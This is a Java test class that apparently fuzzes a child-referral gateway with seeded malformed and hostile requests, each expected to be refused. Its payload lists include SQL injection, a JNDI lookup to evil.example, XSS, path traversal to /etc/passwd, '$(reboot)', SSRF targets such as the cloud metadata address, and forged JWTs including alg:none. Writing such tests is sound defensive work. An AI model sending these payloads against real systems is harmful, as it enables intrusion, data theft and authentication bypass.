package id.rujukan.gateway;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import id.rujukan.contract.ActionLink;
import id.rujukan.contract.ReferralActionRequested;
import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.UUID;

/**
 * Generates malformed and hostile requests against the gateway, each one that must be refused: random and
 * truncated JSON, wrong types, huge strings and arrays, deep nesting, invalid UTF-8, injection strings
 * where only a code or an id belongs, forged, expired and other-agency tokens, replayed idempotency keys.
 * Seeded, so a failure can be replayed.
 */
final class HostileRequests {

    /**
     * One request: what it is (for the report), method, path, headers, body (null for none), and the statuses
     * the check it aims at answers (two where the fault may be caught earlier, e.g. a body over 64 KiB is 413
     * before it is 400).
     */
    record Hostile(String kind, String method, String path, Map<String, String> headers, byte[] body,
            Set<Integer> expected) {
    }

    static final List<String> INJECTIONS = List.of("' OR '1'='1", "\"; DROP TABLE referral_view; --",
            "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "../../../../etc/passwd", "%00", "\u0000",
            "{{7*7}}", "#{7*7}", "$(reboot)", "\r\nX-Injected: 1", "١٦٠٨", "1608014107260001 OR 1=1", "null", "",
            " ", "\u202Edinsos-1608", "dinsos-1608\u0000", "DINSOS-1608", "rutan-martapura; kemensos");
    /** Injection strings that are no user name (some, such as "null", are one). */
    private static final List<String> NOT_USER_NAMES = INJECTIONS.stream()
            .filter(text -> !text.matches(ReferralActionRequested.USER_ID)).toList();
    /** Fields where only a code, an id, an enum or a date belongs: any injection string there is invalid. */
    private static final List<String[]> STRICT_FIELDS = List.of(new String[] {"referringAgencyId"},
            new String[] {"targetAgencyId"}, new String[] {"urgency"}, new String[] {"category"},
            new String[] {"serviceNeeded"}, new String[] {"child", "sex"}, new String[] {"child", "nik"},
            new String[] {"child", "birthDate"}, new String[] {"childRegion", "provinceCode"},
            new String[] {"childRegion", "regencyCode"});
    private static final int KINDS = 19;
    private static final Set<Integer> INVALID = Set.of(400);
    private static final Set<Integer> INVALID_OR_TOO_BIG = Set.of(400, 413);

    private final Random random;
    private final ObjectMapper json;
    private final String agency;
    private final String token;
    private final String validBody;
    private final String referralId;
    private final String usedIdempotencyKey;
    private final byte[] linkSecret;

    HostileRequests(long seed, ObjectMapper json, String agency, String validBody, String referralId,
            String usedIdempotencyKey, byte[] linkSecret) {
        this.linkSecret = linkSecret;
        this.random = new Random(seed);
        this.json = json;
        this.agency = agency;
        this.token = Tokens.agency(agency);
        this.validBody = validBody.strip();
        this.referralId = referralId;
        this.usedIdempotencyKey = usedIdempotencyKey;
    }

    Hostile next(int index) {
        return switch (index % KINDS) {
            case 0 -> submit("random bytes", randomBytes(random.nextInt(2000)), INVALID);
            case 1 -> submit("truncated JSON", utf8(validBody.substring(0, random.nextInt(validBody.length() - 1))),
                    INVALID);
            case 2 -> submit("wrong type", utf8(withWrongType()), INVALID);
            case 3 -> submit("huge string", utf8(withHugeString()), INVALID_OR_TOO_BIG);
            case 4 -> submit("huge array", utf8(hugeArray()), INVALID_OR_TOO_BIG);
            case 5 -> submit("deep nesting", utf8(deeplyNested()), INVALID_OR_TOO_BIG);
            case 6 -> submit("invalid UTF-8", invalidUtf8(), INVALID);
            case 7 -> submit("injection in a code or id", utf8(withInjection()), INVALID);
            case 8 -> new Hostile("forged token", "POST", "/api/v1/referrals", Map.of("Authorization",
                    "Bearer " + forgedToken(), "Content-Type", "application/json"), utf8(validBody), Set.of(401));
            case 9 -> new Hostile("expired or foreign token", "POST", "/api/v1/referrals", Map.of("Authorization",
                    "Bearer " + (random.nextBoolean() ? Tokens.expired(agency) : Tokens.fromAnotherIssuer(agency)),
                    "Content-Type", "application/json"), utf8(validBody), Set.of(401));
            case 10 -> otherAgency();
            case 11 -> new Hostile("replayed idempotency key", "POST", "/api/v1/referrals", Map.of("Authorization",
                    "Bearer " + token, "Content-Type", "application/json", "Idempotency-Key", usedIdempotencyKey),
                    utf8(validBody.replace("\"HIGH\"", "\"EMERGENCY\"").replace("Jl. ", "Jalan " + random.nextInt())),
                    Set.of(422));
            case 12 -> injectionInThePath();
            case 13 -> protocolAbuse();
            case 14 -> alertLink();
            case 15 -> adminWithoutTheRole();
            case 16 -> adminWithHostileValues();
            case 17 -> handoffOrNote();
            default -> report();
        };
    }

    private Hostile injectionInThePath() {
        String id = URLEncoder.encode(pick(INJECTIONS) + random.nextInt(), StandardCharsets.UTF_8);
        return random.nextBoolean()
                ? new Hostile("injection in the path", "GET", "/api/v1/referrals/" + id,
                        Map.of("Authorization", "Bearer " + token), null, Set.of(404))
                : new Hostile("injection in the path", "POST", "/api/v1/referrals/" + id + "/accept",
                        Map.of("Authorization", "Bearer " + token, "Content-Type", "application/json"), utf8("{}"),
                        Set.of(404));
    }

    /** The page an alert's link opens, with a link forged, expired or made for another agency. */
    private Hostile alertLink() {
        Instant later = Instant.now().plus(Duration.ofHours(1));
        String own = new ActionLink(UUID.fromString(referralId), agency, "OFFICER", later).sign(linkSecret);
        int at = random.nextInt(own.length());
        String forged = own.substring(0, at) + (own.charAt(at) == 'a' ? 'b' : 'a') + own.substring(at + 1);
        return switch (random.nextInt(3)) {
            case 0 -> link("forged", forged, 403);
            case 1 -> link("expired", new ActionLink(UUID.fromString(referralId), agency, "OFFICER",
                    Instant.now().minus(Duration.ofMinutes(1 + random.nextInt(10_000)))).sign(linkSecret), 410);
            default -> link("for another agency", new ActionLink(UUID.fromString(referralId), "dinsos-1608",
                    "OFFICER", later).sign(linkSecret), 403);
        };
    }

    private Hostile link(String which, String link, int expected) {
        return new Hostile("an alert's link, " + which, "GET", "/m/" + link,
                Map.of("Authorization", "Bearer " + Tokens.user(agency, "officer")), null, Set.of(expected));
    }

    /** An officer's token on what only the agency's admin may do. */
    private Hostile adminWithoutTheRole() {
        Map<String, String> officer = Map.of("Authorization", "Bearer " + Tokens.user(agency, "officer"),
                "Content-Type", "application/json");
        return switch (random.nextInt(4)) {
            case 0 -> new Hostile("admin without the role", "DELETE",
                    "/api/v1/admin/cases/" + referralId + "/data-keys", officer, null, Set.of(403));
            case 1 -> new Hostile("admin without the role", "PUT", "/api/v1/admin/officers/officer.rutan/departed",
                    officer, null, Set.of(403));
            case 2 -> new Hostile("admin without the role", "GET", "/api/v1/admin/audit", officer, null, Set.of(403));
            default -> new Hostile("admin without the role", "PUT", "/api/v1/admin/webhook", officer,
                    utf8("{\"url\":\"https://example.org/hook\"}"), Set.of(403));
        };
    }

    /** The agency's admin, with values that are not what the endpoint takes. */
    private Hostile adminWithHostileValues() {
        Map<String, String> admin = Map.of("Authorization", "Bearer " + Tokens.user(agency, "agency-admin"),
                "Content-Type", "application/json");
        String injection = URLEncoder.encode(pick(INJECTIONS), StandardCharsets.UTF_8);
        return switch (random.nextInt(5)) {
            case 0 -> new Hostile("admin, a limit that is none", "GET", "/api/v1/admin/audit?limit="
                    + pick(List.of("0", "1001", "-5", "abc", "1e3")), admin, null, INVALID);
            case 1 -> new Hostile("admin, an id that is none", "GET", "/api/v1/admin/audit?referralId=" + injection
                    + random.nextInt(), admin, null, INVALID);
            case 2 -> new Hostile("admin, a case that is none", "DELETE", "/api/v1/admin/cases/" + UUID.randomUUID()
                    + "/data-keys", admin, null, Set.of(404));
            case 3 -> new Hostile("admin, an officer name that is none", "PUT", "/api/v1/admin/officers/"
                    + URLEncoder.encode(pick(NOT_USER_NAMES), StandardCharsets.UTF_8) + "/departed", admin, null,
                    Set.of(400, 404));
            default -> new Hostile("admin, a webhook inside", "PUT", "/api/v1/admin/webhook", admin,
                    // not 127.0.0.1: the test profile allows it, for the tests' own receiver
                    utf8("{\"url\":" + json.valueToTree(pick(List.of("http://127.0.0.2/hook",
                            "http://169.254.169.254/latest/meta-data", "http://10.0.0.1/", "file:///etc/passwd",
                            "https://[::1]/", "gopher://example.org/", "http://localhost:8080/api/v1/referrals")))
                            + "}"), INVALID);
        };
    }

    /** A handoff of a case that is not the agency's, or without its target; a note too long, or on nothing. */
    private Hostile handoffOrNote() {
        Map<String, String> headers = Map.of("Authorization", "Bearer " + token, "Content-Type", "application/json",
                "Idempotency-Key", UUID.randomUUID().toString());
        ObjectNode handoff = parse();
        handoff.put("targetAgencyId", "dinsos-16");
        return switch (random.nextInt(4)) {
            case 0 -> new Hostile("handoff of a case that is none", "POST", "/api/v1/cases/" + UUID.randomUUID()
                    + "/handoffs", headers, utf8(handoff.toString()), Set.of(404));
            case 1 -> new Hostile("handoff without its target", "POST", "/api/v1/cases/" + referralId + "/handoffs",
                    headers, utf8(parse().without("targetAgencyId").toString()), INVALID);
            case 2 -> new Hostile("note too long", "POST", "/api/v1/referrals/" + referralId + "/notes", headers,
                    utf8("{\"note\":\"" + "x".repeat(4_001 + random.nextInt(20_000)) + "\"}"), INVALID);
            default -> new Hostile("note on no referral", "POST", "/api/v1/referrals/" + UUID.randomUUID() + "/notes",
                    headers, utf8("{\"note\":\"Keluarga sudah dihubungi.\"}"), Set.of(404));
        };
    }

    /** Reports, without the role or with filters that are none. */
    private Hostile report() {
        if (random.nextInt(3) == 0) {
            return new Hostile("report without the role", "GET", "/api/v1/reports/referrals",
                    Map.of("Authorization", "Bearer " + Tokens.user(agency, "officer")), null, Set.of(403));
        }
        String filter = pick(List.of("from=yesterday", "to=2026-13-01T00:00:00Z", "category=ABUSE",
                "zone=Mars/Olympus", "category=" + URLEncoder.encode(pick(INJECTIONS.stream()
                        .filter(text -> !text.isEmpty()).toList()), StandardCharsets.UTF_8)));
        // (an empty filter, "category=", is no filter: the report of everything, rightly)
        return new Hostile("report with a filter that is none", "GET", "/api/v1/reports/referrals?" + filter,
                Map.of("Authorization", "Bearer " + Tokens.user(agency, "supervisor")), null, INVALID);
    }

    private Hostile submit(String kind, byte[] body, Set<Integer> expected) {
        return new Hostile(kind, "POST", "/api/v1/referrals",
                Map.of("Authorization", "Bearer " + token, "Content-Type", "application/json",
                        "Idempotency-Key", UUID.randomUUID().toString()), body, expected);
    }

    private String withWrongType() {
        ObjectNode body = parse();
        JsonNodeFactory nodes = JsonNodeFactory.instance;
        String[] path = pick(List.of(new String[] {"referringAgencyId"}, new String[] {"urgency"},
                new String[] {"category"}, new String[] {"child"}, new String[] {"childRegion"}, new String[] {"consent"},
                new String[] {"summary"}, new String[] {"child", "name"}, new String[] {"child", "birthDate"},
                new String[] {"consent", "given"}, new String[] {"childRegion", "provinceCode"}));
        JsonNode current = at(body, path);
        JsonNode wrong = switch (random.nextInt(4)) {
            case 0 -> current.isArray() ? nodes.objectNode() : nodes.arrayNode().add(1).add("x");
            case 1 -> current.isObject() ? nodes.numberNode(random.nextInt()) : nodes.objectNode().put("x", 1);
            case 2 -> current.isBoolean() ? nodes.textNode("yes please") : nodes.arrayNode();
            default -> current.isNumber() ? nodes.textNode("x") : nodes.numberNode(random.nextDouble() * 1e6);
        };
        set(body, path, wrong);
        return body.toString();
    }

    private String withHugeString() {
        ObjectNode body = parse();
        String[] path = pick(List.of(new String[] {"summary"}, new String[] {"child", "name"},
                new String[] {"child", "address"}, new String[] {"consent", "givenBy"}, new String[] {"targetAgencyId"}));
        // longer than the field may be, and sometimes longer than the body may be
        int length = random.nextBoolean() ? 8_001 + random.nextInt(50_000) : 70_000 + random.nextInt(200_000);
        set(body, path, JsonNodeFactory.instance.textNode("A".repeat(length)));
        return body.toString();
    }

    private String hugeArray() {
        StringBuilder array = new StringBuilder("[");
        int length = 1_000 + random.nextInt(40_000);
        for (int i = 0; i < length; i++) {
            array.append(i == 0 ? "" : ",").append(random.nextInt(10));
        }
        array.append(']');
        if (random.nextBoolean()) {
            return array.toString();
        }
        ObjectNode body = parse();
        return body.toString().replace("\"summary\":", "\"summary\":" + array + ",\"x\":");
    }

    private String deeplyNested() {
        int depth = 1_001 + random.nextInt(20_000);
        String open = random.nextBoolean() ? "[" : "{\"child\":";
        String close = open.equals("[") ? "]" : "}";
        return open.repeat(depth) + "1" + close.repeat(depth);
    }

    private byte[] invalidUtf8() {
        byte[][] bad = {{(byte) 0xC3, 0x28}, {(byte) 0xFF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}, {(byte) 0xC0, (byte) 0xAF}};
        String marker = "Jl. Lintas";
        int at = validBody.indexOf(marker);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(utf8(validBody.substring(0, at)));
        out.writeBytes(bad[random.nextInt(bad.length)]);
        out.writeBytes(utf8(validBody.substring(at)));
        return out.toByteArray();
    }

    private String withInjection() {
        ObjectNode body = parse();
        set(body, pick(STRICT_FIELDS), JsonNodeFactory.instance.textNode(pick(INJECTIONS)));
        return body.toString();
    }

    private String forgedToken() {
        String[] parts = token.split("\\.");
        return switch (random.nextInt(4)) {
            // the signature of another payload: another agency, the same key id
            case 0 -> Tokens.agency("kemensos").split("\\.")[0] + "." + parts[1].substring(0, parts[1].length() - 2)
                    + "xx." + parts[2];
            // signature bytes changed
            case 1 -> parts[0] + "." + parts[1] + "." + parts[2].substring(0, 10)
                    + (parts[2].charAt(10) == 'A' ? 'B' : 'A') + parts[2].substring(11);
            // "alg": "none"
            case 2 -> Base64.getUrlEncoder().withoutPadding().encodeToString(utf8("{\"alg\":\"none\",\"typ\":\"JWT\"}"))
                    + "." + parts[1] + ".";
            default -> Base64.getUrlEncoder().withoutPadding().encodeToString(randomBytes(40));
        };
    }

    private Hostile otherAgency() {
        String other = Tokens.agency("lksa-6371");
        String[] paths = {"", "/details", "/timeline", "/notes", "/accept", "/decline", "/notes"};
        int which = random.nextInt(paths.length);
        // what the action would need, so that only the party check refuses it
        String body = switch (which) {
            case 4 -> "{\"officerInCharge\":\"officer.lksa-6371\"}";
            case 5 -> "{\"reasonCode\":\"NO_CAPACITY\"}";
            case 6 -> "{\"note\":\"Bukan rujukan kami.\"}";
            default -> null;
        };
        return new Hostile("another agency's referral", body == null ? "GET" : "POST",
                "/api/v1/referrals/" + referralId + paths[which],
                Map.of("Authorization", "Bearer " + other, "Content-Type", "application/json"),
                body == null ? null : utf8(body), Set.of(404));
    }

    private Hostile protocolAbuse() {
        return switch (random.nextInt(4)) {
            case 0 -> new Hostile("no token", "POST", "/api/v1/referrals", Map.of("Content-Type", "application/json"),
                    utf8(validBody), Set.of(401));
            case 1 -> new Hostile("wrong content type", "POST", "/api/v1/referrals",
                    Map.of("Authorization", "Bearer " + token, "Content-Type", pick(List.of("text/plain",
                            "application/xml", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded"))),
                    utf8(validBody), Set.of(415));
            case 2 -> new Hostile("wrong method", pick(List.of("PUT", "DELETE", "PATCH")), "/api/v1/referrals",
                    Map.of("Authorization", "Bearer " + token, "Content-Type", "application/json"), utf8(validBody),
                    Set.of(405));
            default -> new Hostile("garbage query", "GET", pick(List.of("/api/v1/inbox", "/api/v1/sent")) + "?"
                    + pick(List.of("limit=", "overdue=", "state=", "urgency=")) + URLEncoder.encode(
                    pick(List.of("-1", "0", "1000000", "abc", "1e9", "2147483648", "yes")), StandardCharsets.UTF_8),
                    Map.of("Authorization", "Bearer " + token), null, INVALID);
        };
    }

    private ObjectNode parse() {
        try {
            return (ObjectNode) json.readTree(validBody);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static JsonNode at(ObjectNode body, String[] path) {
        JsonNode node = body;
        for (String field : path) {
            node = node.get(field);
        }
        return node;
    }

    private static void set(ObjectNode body, String[] path, JsonNode value) {
        ObjectNode parent = body;
        for (int i = 0; i < path.length - 1; i++) {
            parent = (ObjectNode) parent.get(path[i]);
        }
        parent.set(path[path.length - 1], value);
    }

    private <T> T pick(List<T> items) {
        return items.get(random.nextInt(items.size()));
    }

    private byte[] randomBytes(int length) {
        byte[] bytes = new byte[length];
        random.nextBytes(bytes);
        return bytes;
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
